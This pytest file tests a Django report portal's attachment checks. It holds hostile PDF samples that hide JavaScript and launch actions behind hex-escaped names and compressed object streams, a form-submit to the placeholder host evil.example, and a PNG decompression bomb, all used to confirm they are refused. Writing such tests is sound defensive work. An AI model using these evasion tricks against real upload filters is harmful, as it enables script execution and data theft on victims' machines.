"""Attachments that attack the portal: PDF tricks that hide scripts and actions from a byte
search, decompression bombs, more files than allowed. Each is refused quickly with a clear
error next to the field, never a 500 or a worker that runs out of time or memory."""
import pytest
from django.core.exceptions import ValidationError
from django.utils import translation
from PIL import ImageFile

from reports.attachments import attachment_check
from tests.reports import files
from tests.reports.helpers import step_post
from tests.reports.test_attachments import upload, walk_to_attachments

JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"


def pixels_decoded(monkeypatch) -> list:
    """The size of every image whose pixels Pillow loads from now on (once per call of ``load``;
    each still loads as before): the work is bounded by what is decoded, not by a stopwatch on
    a shared machine."""
    decoded = []
    load = ImageFile.ImageFile.load

    def counted_load(image):
        decoded.append(image.size)
        return load(image)

    monkeypatch.setattr(ImageFile.ImageFile, "load", counted_load)
    return decoded

# One row per trick: the file, and what it hides.
REFUSED_PDFS = [
    ("open action with JavaScript", files.PDF_WITH_SCRIPT),
    ("name escapes /J#61vaScript", files.pdf_with(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")),
    ("every letter escaped", files.pdf_with(b"/OpenAction << /S /#4A#61#76#61#53#63#72#69#70#74 /#4A#53 (x) >>")),
    ("script in a compressed object stream",
     files.pdf_with_object_stream(b"/OpenAction 4 0 R", {4: JS})),
    ("launch in a compressed object stream",
     files.pdf_with_object_stream(b"/OpenAction 4 0 R", {4: b"<< /S /Launch /F (calc.exe) >>"})),
    ("submit form in a compressed object stream",
     files.pdf_with_object_stream(b"/OpenAction 4 0 R", {4: b"<< /S /SubmitForm /F (https://evil.example) >>"})),
    ("page additional action, escaped", files.pdf_with(page_extra=b"/A#41 << /O 4 0 R >>",
                                                        objects=b"4 0 obj\n<< /S /L#61unch /F (x.exe) >>\nendobj\n")),
    ("document-level JavaScript names tree, escaped",
     files.pdf_with(b"/Names << /J#61vaScript 4 0 R >>", objects=b"4 0 obj\n<< /Names [(a) 5 0 R] >>\nendobj\n"
                    b"5 0 obj\n<< /S /JavaScr#69pt /JS (x) >>\nendobj\n")),
    ("embedded file, escaped", files.pdf_with(b"/Names << /EmbeddedFile#73 4 0 R >>",
                                              objects=b"4 0 obj\n<< /Names [] >>\nendobj\n")),
    ("object the cross-reference does not list", files.PDF.replace(
        b"xref", b"9 0 obj\n<< /S /J#61vaScript /JS (x) >>\nendobj\nxref")),
    ("XFA form in an object stream", files.pdf_with_object_stream(b"/AcroForm 4 0 R", {4: b"<< /XFA 7 0 R >>"})),
    ("remote go-to in an object stream",
     files.pdf_with_object_stream(b"/OpenAction 4 0 R", {4: b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>"})),
]


@pytest.mark.parametrize(("trick", "content"), REFUSED_PDFS, ids=[row[0] for row in REFUSED_PDFS])
def test_pdf_tricks_are_refused(trick, content):
    with translation.override("en"), pytest.raises(ValidationError) as caught:
        attachment_check(name="statement.pdf", content=content)
    error = caught.value.error_list[0]
    assert error.code == "pdf_active", trick
    assert "statement.pdf contains scripts or embedded files" in error.message % error.params


ACCEPTED_PDFS = [
    ("plain", files.PDF),
    ("opens at the first page", files.pdf_with(b"/OpenAction [3 0 R /Fit]")),
    ("opens with a go-to action", files.pdf_with(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")),
    ("a web link", files.pdf_with(page_extra=b"/Annots [4 0 R]", objects=(
        b"4 0 obj\n<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://polisen.se) >> >>"
        b"\nendobj\n"))),
    ("object streams without actions", files.pdf_with_object_stream(b"/PageMode /UseNone")),
    ("a font named AAAAAA+Arial", files.pdf_with(page_extra=b"/Resources << /Font << /F1 4 0 R >> >>", objects=(
        b"4 0 obj\n<< /Type /Font /Subtype /TrueType /BaseFont /AAAAAA+Arial >>\nendobj\n"))),
]


@pytest.mark.parametrize(("kind", "content"), ACCEPTED_PDFS, ids=[row[0] for row in ACCEPTED_PDFS])
def test_ordinary_pdfs_are_accepted_unchanged(kind, content):
    clean = attachment_check(name="statement.pdf", content=content)
    assert clean.content == content and clean.content_type == "application/pdf"


@pytest.mark.parametrize("content", [
    b"%PDF-1.4\n" + b"garbage " * 100,
    files.PDF[:120],
    files.pdf_with(b"").replace(b"/Count 1", b"/Count 0").replace(b"/Kids [3 0 R]", b"/Kids []"),
], ids=["no structure", "truncated", "no pages"])
def test_unreadable_pdfs_are_refused(content):
    with pytest.raises(ValidationError) as caught:
        attachment_check(name="x.pdf", content=content)
    assert caught.value.error_list[0].code == "unreadable"


def test_decompression_bomb_is_refused_before_decoding(monkeypatch):
    bomb = files.png_of_size(9000, 9000)
    assert len(bomb) < 300 * 1024
    decoded = pixels_decoded(monkeypatch)
    with translation.override("en"), pytest.raises(ValidationError) as caught:
        attachment_check(name="bomb.png", content=bomb)
    assert decoded == []
    error = caught.value.error_list[0]
    assert error.code == "too_many_pixels"
    assert error.message % error.params == (
        "The photo bomb.png has too many pixels (at most 50 megapixels). "
        "Send a smaller copy of it, for example a screenshot."
    )


def test_an_ordinary_photo_is_decoded(monkeypatch):
    """The spy above sees a decode when there is one, so its empty lists mean something."""
    decoded = pixels_decoded(monkeypatch)
    attachment_check(name="small.png", content=files.png_of_size(40, 30))
    assert decoded and set(decoded) == {(40, 30)}


def test_the_pixel_limit_is_a_setting(settings):
    settings.ATTACHMENT_MAX_PIXELS = 100
    with pytest.raises(ValidationError):
        attachment_check(name="a.png", content=files.png_of_size(11, 10))
    assert attachment_check(name="a.png", content=files.png_of_size(10, 10)).content_type == "image/png"


@pytest.mark.django_db
def test_a_bomb_in_the_wizard_gets_a_field_error_without_decoding_it(client, monkeypatch):
    walk_to_attachments(client)
    bomb = files.png_of_size(9000, 9000)
    decoded = pixels_decoded(monkeypatch)
    response = step_post(client, "stold", "bilagor", {"bilagor-files": [upload("bomb.png", bomb)]}, "/en")
    assert decoded == []  # refused by the size in its header: its 1.6 GB of pixels never decoded
    assert response.status_code == 200
    page = response.content.decode()
    assert "The photo bomb.png has too many pixels" in page
    assert 'href="#id_bilagor-files"' in page


@pytest.mark.django_db
def test_twelve_files_in_one_request_are_counted_before_any_is_decoded(client, monkeypatch):
    walk_to_attachments(client)
    big = files.png_of_size(7000, 7000)  # under the pixel limit: decoding twelve would take many seconds
    decoded = pixels_decoded(monkeypatch)
    response = step_post(client, "stold", "bilagor", {
        "bilagor-files": [upload(f"{n}.png", big) for n in range(12)],
    }, "/en")
    assert decoded == []
    assert response.status_code == 200
    assert "You can attach at most 5 files." in response.content.decode()


@pytest.mark.django_db
def test_far_too_many_files_are_refused_before_they_are_read(client, settings):
    walk_to_attachments(client)
    response = step_post(client, "stold", "bilagor", {
        "bilagor-files": [upload(f"{n}.pdf", files.PDF) for n in range(settings.DATA_UPLOAD_MAX_NUMBER_FILES + 1)],
    }, "/en")
    assert response.status_code == 400
